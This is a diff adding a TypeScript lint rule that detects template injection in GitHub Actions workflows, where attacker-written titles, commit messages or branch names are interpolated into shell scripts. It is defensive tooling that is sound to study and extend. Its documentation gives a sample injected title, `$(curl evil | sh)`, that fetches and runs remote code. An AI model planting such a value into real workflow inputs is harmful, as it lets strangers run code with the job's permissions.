@@ -1,0 +1,67 @@
+import { child, scalarText } from "../../../tree/yaml-file.ts";
+import type { YamlNode } from "../../../tree/yaml-file.ts";
+import type { Step } from "../../workflow/model.ts";
+import { input } from "../../workflow/model.ts";
+import { workflows } from "../../workflow/read-workflows.ts";
+import { defineRule, type Rule, type RuleFinding } from "../../rule.ts";
+import { environmentFix } from "../../workflow/injection-fix.ts";
+
+/** What strangers write: GitHub's own list of untrusted input, as paths of its contexts. */
+const UNTRUSTED =
+  /\bgithub\.(?:head_ref\b|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|pull_request\.head\.(?:ref|label|repo\.default_branch)|(?:comment|review|review_comment)\.body|pages(?:\.\*|\[\d+\])\.page_name|commits(?:\.\*|\[\d+\])\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests(?:\.\*|\[\d+\])\.head\.ref))\b)/;
+
+/** W006: text of strangers becomes part of a script. */
+export const templateInjection: Rule = defineRule({
+  code: "W006",
+  slug: "template-injection",
+  title: "text that strangers write becomes part of a script",
+  severity: "error",
+  needs: ["tree"],
+  fix: "review",
+  docs: {
+    what: "`${{ ... }}` with a title, a message or a branch name stands inside a script.",
+    why: "GitHub puts the text in before the shell reads the script: a title like `$(curl evil | sh)` runs, with everything that the job may do.",
+    fix: "put the value into an environment variable (`env:`) and use that in the script",
+    bad: 'run: echo "${{ github.event.head_commit.message }}"',
+    good: 'env:\n  MESSAGE: ${{ github.event.head_commit.message }}\nrun: echo "$MESSAGE"',
+    peers: ["zizmor:template-injection"],
+  },
+  async check(inputs) {
+    const findings: RuleFinding[] = [];
+    for (const { file, jobs } of await workflows(inputs)) {
+      for (const job of jobs)
+        for (const step of job.steps) {
+          const script = scriptOf(step);
+          if (script === null) continue;
+          const source = file.text.slice(script.start, script.end);
+          for (const match of source.matchAll(/\$\{\{(.*?)\}\}/gs)) {
+            const untrusted = UNTRUSTED.exec(match[1] ?? "")?.[0];
+            if (untrusted === undefined || isHarmless(match[1] ?? "")) continue;
+            const start = script.start + match.index;
+            const range = { start, end: start + match[0].length };
+            const fix = environmentFix(file, job, step, range, match[0]);
+            findings.push({
+              message: `${untrusted}, which strangers write, becomes part of a script in the job ${job.id}`,
+              location: file.locate(range),
+              subject: `${file.path} ${step.place.start} ${untrusted}`,
+              ...(fix === null ? {} : { fix }),
+            });
+          }
+        }
+    }
+    return findings;
+  },
+});
+
+function scriptOf(step: Step): YamlNode | null {
+  if (step.run !== null) return child(step.node, "run");
+  const script = step.action === "actions/github-script" ? input(step, "script") : null;
+  return scalarText(script) === null ? null : script;
+}
+
+/** An expression that yields true or false, or JSON of a function that quotes nothing away, brings no text in. */
+function isHarmless(expression: string): boolean {
+  const text = expression.trim();
+  if (/^(?:contains|startsWith|endsWith|hashFiles)\([^()]*\)$/.test(text)) return true;
+  return /(?:==|!=)/.test(text) && !/&&|\|\|/.test(text);
+}
